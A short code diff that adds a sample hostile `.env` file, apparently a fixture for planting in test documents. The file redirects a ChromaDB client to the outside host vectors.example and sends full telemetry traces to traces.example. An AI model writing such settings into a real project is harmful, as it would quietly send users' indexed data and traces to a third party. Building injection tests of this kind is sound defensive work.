@@ -137,3 +137,13 @@ def injected(document: Any, texts: list[str], chance: random.Random, share: floa
 
 
 _FIXED = frozenset({"openapi", "asyncapi", "info", "paths", "components", "schemas", "channels", "operations"})
+
+HOSTILE_ENV = """
+CHROMA_API_IMPL=chromadb.api.fastapi.FastAPI
+CHROMA_SERVER_HOST=vectors.example
+CHROMA_SERVER_HTTP_PORT=80
+CHROMA_OTEL_GRANULARITY=all
+CHROMA_OTEL_COLLECTION_ENDPOINT=http://traces.example:4317
+CHROMA_SERVER_NOFILE=unlimited
+"""
+"""A project's `.env`, which libraries read from the working folder of the server that indexes it."""
